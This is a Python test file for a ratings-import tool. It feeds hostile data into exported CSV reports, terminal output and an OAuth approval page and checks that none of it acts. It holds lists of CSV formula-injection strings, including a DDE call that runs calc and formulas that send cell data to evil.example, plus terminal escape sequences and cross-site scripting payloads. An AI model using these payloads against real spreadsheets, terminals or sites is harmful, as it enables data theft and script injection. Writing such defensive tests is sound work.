"""Hostile output: what exports hold does no harm in a spreadsheet, on a terminal or in a browser, by real ones."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import re
import struct
import subprocess
import sys
import termios
from collections.abc import Iterator, Sequence
from pathlib import Path

import ironcalc
import pyte
import pytest

from importer.sandbox.app import SandboxSettings, create_app
from importer.sandbox.serving import serve
from tests.browsing import Watched, browser, watched
from tests.clock import FakeClock
from tests.commanding import run
from tests.sandbox.calling import NOW

__all__ = ["browser", "watched"]

HEADER = ("title", "year", "type", "rating", "rated_at", "imdb")

# --- spreadsheets -----------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    "Alien;=1+1",
    "Alien;+1+1;x",
    "Alien;@SUM(1)",
    "Alien;'=1+1",
    '";=1+1',
    '"=1+1',
    "Alien,=1+1",
    "\u00a0=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "=\u202e1+1",
    "=" + "1+" * 200 + "1",
]


def hostile_table(path: Path, titles: Sequence[str]) -> Path:
    """Every title twice: once as a rating, once in a row that is rejected and names it in all it holds."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(HEADER)
        for number, title in enumerate(titles, start=1):
            writer.writerow((title, "1999", "movie", "8", "2020-01-02", f"tt{number:07}"))
            writer.writerow((title, title, title, title, title, title))
    return path


def formulas_in(text: str, delimiter: str) -> list[str]:
    """The cells that a spreadsheet runs when it opens `text` as a table with this delimiter."""
    book = ironcalc.create("report")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    for row, cells in enumerate(rows, start=1):
        for column, cell in enumerate(cells, start=1):
            book.set_user_input(0, row, column, cell)
    return [
        cells[column - 1]
        for row, cells in enumerate(rows, start=1)
        for column in range(1, len(cells) + 1)
        if book.get_cell_formula(0, row, column) is not None
    ]


def test_the_spreadsheet_would_run_what_is_not_defused() -> None:
    """The proof can fail: written as they are, formulas run, behind a semicolon too."""
    assert formulas_in("=1+1,+1+1,-1+1,Alien", ",") == ["=1+1", "+1+1", "-1+1"]
    assert formulas_in('"Alien;=1+1"\n', ",") == []
    assert formulas_in('1,"Alien;=1+1;"\n', ";") == ["=1+1"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("name", ["outcomes.csv", "leftovers.csv"])
def test_no_report_holds_a_formula(tmp_path: Path, name: str, delimiter: str) -> None:
    """Whichever character the person's spreadsheet takes for the delimiter."""
    hostile_table(tmp_path / "=1+1;=2+2.csv", FORMULAS)
    done = run(["preview", "=1+1;=2+2.csv", "-o", "report"], tmp_path)
    assert done.returncode == 1, done.stderr
    text = (tmp_path / "report" / name).read_bytes().decode()
    assert text.count("\r\n") > len(FORMULAS)
    assert "HYPERLINK" in text
    assert formulas_in(text, delimiter) == []


# --- terminals --------------------------------------------------------------------------------------------

ESCAPES = [
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b[10;10Hjump",
    "\x1b[5A up",
    "\x1bc reset",
    "\x1b[?25l hidden",
    "\x1b[6n report",
    "\x1bP+q544e\x1b\\",
    "\x1b(0 lines",
    "\x9b31m c1",
    "\x9d0;owned\x9c",
    "\x08\x08\x08 back",
    "\x0e shift",
    "\x07 bell",
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u200fmark",
    "\u2028line",
    "a\rb",
    "[red]markup[/red]",
    "[/x]",
    "[link=https://evil.example]x[/link]",
]
TAME = [f"Film {number}" for number in range(len(ESCAPES))]
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_TEXT_ONLY = {"draw", "linefeed", "carriage_return", "tab"}


def on_terminal(arguments: Sequence[str], folder: Path) -> tuple[int, bytes]:
    """`rateport ARGUMENTS` with a terminal of 100 by 50 for all its streams: exit code and every byte it wrote."""
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 100, 0, 0))
    kept = {
        name: value for name, value in os.environ.items() if not name.startswith(("RATEPORT_", "COLUMNS", "NO_"))
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "importer", *arguments],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        cwd=folder,
        env={**kept, "RATEPORT_HOME": str(folder / "home"), "TERM": "xterm-256color"},
    )
    os.close(theirs)
    written = b"".join(iter(lambda: _read(ours), b""))
    os.close(ours)
    return process.wait(timeout=60), written


def _read(descriptor: int) -> bytes:
    try:
        return os.read(descriptor, 65536)
    except OSError:  # how Linux says that the other side is closed
        return b""


def events(written: bytes) -> Iterator[tuple[str, str]]:
    """What a terminal does with these bytes, step by step."""
    told = io.StringIO()
    pyte.ByteStream(pyte.DebugScreen(to=told)).feed(written)
    for line in told.getvalue().splitlines():
        name, arguments, _ = json.loads(line)
        yield name, json.dumps(arguments)


def commands(file: str) -> list[list[str]]:
    """Every command that prints what a file holds, in an order in which each has something to say."""
    return [
        ["identify", file],
        ["preview", file],
        ["preview", file, "--json"],
        ["import", file, "--sandbox", "--yes", "-o", "report"],
        ["import", file, "--sandbox", "--yes", "--json"],
        ["runs", "--sandbox"],
        ["show", "--sandbox"],
        ["ratings", "--sandbox"],
        ["verify", "--sandbox"],
        ["sources", "imdb"],
        ["sources", file],
        ["identify", f"{file}-not-there"],
    ]


def doings(folder: Path, name: str, titles: Sequence[str]) -> list[tuple[list[str], set[tuple[str, str]], str]]:
    """For every command, what the terminal does beside showing text, and the text."""
    folder.mkdir()
    path = hostile_table(folder / name, titles)
    text = path.read_text(encoding="utf-8")  # rows that disagree are told by title
    path.write_text(
        text
        + "".join(f'"{title}",1999,movie,3,2019-01-02,tt{number:07}\n' for number, title in enumerate(titles, 1))
    )
    found = []
    for command in commands(name):
        _, written = on_terminal(command, folder)
        steps = list(events(written))
        shown = "".join(json.loads(arguments)[0] for step, arguments in steps if step == "draw")
        found.append((command, {step for step in steps if step[0] not in _TEXT_ONLY}, shown))
    return found


@pytest.mark.timeout(240)
def test_no_command_lets_an_export_steer_the_terminal(tmp_path: Path) -> None:
    """A hostile file and a tame one make it do the same things: no title, jump or colour comes from data."""
    tame = doings(tmp_path / "tame", "ratings.csv", TAME)
    hostile = doings(tmp_path / "hostile", "\x1b]0;owned\x07\u202e[red].csv", ESCAPES)
    assert any("Film 3" in shown for _, _, shown in tame)
    allowed = set().union(*(steps for _, steps, _ in tame))
    for command, steps, shown in hostile:
        assert steps <= allowed, f"{command}: {steps - allowed}"
        assert not {name for name, _ in steps} & {"set_title", "set_icon_name", "bell", "backspace", "reset"}
        assert not BIDI.search(shown), f"{command}: {shown!r}"


def test_the_terminal_would_do_what_is_not_defused() -> None:
    """The proof can fail: as they are, most of these do something."""
    acting = [text for text in ESCAPES if {name for name, _ in events(text.encode())} - _TEXT_ONLY]
    assert len(acting) >= 14


# --- browsers ---------------------------------------------------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</b><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x",
    "<img src=https://evil.example/x.png>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "{{ 7 * 7 }}{% for x in () %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e\x00",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.promise("P16")
@pytest.mark.timeout(240)
def test_the_page_that_asks_shows_every_name_as_it_is(watched: Watched) -> None:
    """No dialog opens, nothing is fetched from elsewhere, and the name of the app is text."""
    app = create_app(SandboxSettings(enforce_limits=False), clock=FakeClock(NOW))
    with serve(app) as running:
        for name in MARKUP:
            asked = app.test_client().post(
                "/oauth2/device",
                query_string={"client_id": name, "app-name": "tests", "app-version": "1"},
                data={"client_id": name, "scope": "media:read media:write"},
                headers={"User-Agent": "tests/1"},
            )
            assert asked.status_code == 200, asked.text
            watched.page.goto(f"{running.url}/pin?user_code={asked.get_json()['user_code']}")
            assert watched.page.locator("b").first.inner_text() == name.replace("\x00", "")
            watched.page.goto(f"{running.url}/pin")
            watched.page.locator("input[name=user_code]").evaluate("(box, text) => { box.value = text }", name)
            watched.page.get_by_role("button", name="Approve").click()
            assert watched.page.locator("script, img, svg, iframe, style, link, base").count() == 0
            assert watched.page.url == f"{running.url}/pin"
        assert watched.dialogs == []
        assert {url.split("/pin")[0] for url in watched.requests} <= {running.url, f"{running.url}/favicon.ico"}
    assert len(MARKUP) >= 30


def test_the_browser_would_show_a_dialog(watched: Watched) -> None:
    """The proof can fail: on a page without the policy, the same markup acts."""
    watched.page.set_content("<img src=x onerror=alert(1)>")
    watched.page.wait_for_function("true")
    assert watched.dialogs == ["1"]
